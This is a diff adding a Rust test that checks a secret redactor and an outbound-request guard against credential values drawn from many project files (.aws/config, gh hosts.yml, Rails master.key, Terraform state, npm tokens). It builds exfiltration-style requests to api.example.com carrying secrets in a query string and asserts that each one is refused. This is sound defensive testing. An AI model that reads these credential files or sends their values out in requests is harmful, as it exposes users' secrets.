@@ -593,3 +593,50 @@ async fn round6_reshapings_of_a_secret_are_refused() {
         assert!(matches!(fine, FetchOutcome::Page(_)), "{url}: {fine:?}");
     }
 }
+
+// proves: BEYOND-6, REDACT-1 (round6 #6: every kind of credential file in
+// a project — cookiecutter-django's `.envs/`, `.s3cfg`, gh's `hosts.yml`,
+// `.aws/config`, `.bundle/config`, composer's `auth.json`, `.terraformrc`,
+// Terraform state, `appsettings.*.json`, `#.env#`, Rails' `master.key`,
+// PuTTY keys, multi-line and fish `.env` values, npm's base64 `_password`,
+// cloud tools' token caches, ... — gives values the redactor built from the
+// project removes and the door refuses to send; the server receives none)
+#[tokio::test]
+async fn every_credential_file_value_is_redacted_and_never_leaves() {
+    use ploy_testkit::credential_files::{CREDENTIAL_FILES, write_all};
+    let s = setup().await;
+    let dir = std::env::temp_dir().join(format!("ploy-door-credfiles-{}", std::process::id()));
+    write_all(&dir).unwrap();
+    let sources = ploy_secrets::SecretSources {
+        project: Some(dir.clone()),
+        ..Default::default()
+    };
+    let set = ploy_secrets::sources_secrets(&sources, &|_| None, &|_| false).unwrap();
+    std::fs::remove_dir_all(&dir).unwrap();
+    let redactor = set.redactor();
+    let fetcher = s.fetcher.with_secrets(SecretDoor::from_set(&set));
+    for file in CREDENTIAL_FILES {
+        for secret in file.secrets {
+            let shown = format!("{} holds {secret} here\n", file.path);
+            let out = redactor.redact(&shown);
+            assert!(!out.contains(secret), "{}: not redacted: {out}", file.path);
+            let url = format!("http://api.example.com/?d={}", url_encode(secret));
+            let outcome = get(&fetcher, &url).await;
+            assert_eq!(
+                refusal_rule(&outcome),
+                Some("BEYOND-6"),
+                "{}: {url}: {outcome:?}",
+                file.path
+            );
+        }
+    }
+    assert!(s.server.requests().is_empty());
+    assert_eq!(s.resolver.queries(), 0);
+    // What the files hold besides their secrets still goes out: the door
+    // refuses the values, not everything.
+    for plain in ["db.internal.example", "production", "composer-user"] {
+        let outcome = get(&fetcher, &format!("http://api.example.com/?d={plain}")).await;
+        assert_eq!(refusal_rule(&outcome), None, "{plain}: {outcome:?}");
+    }
+    assert_eq!(s.server.requests().len(), 3);
+}
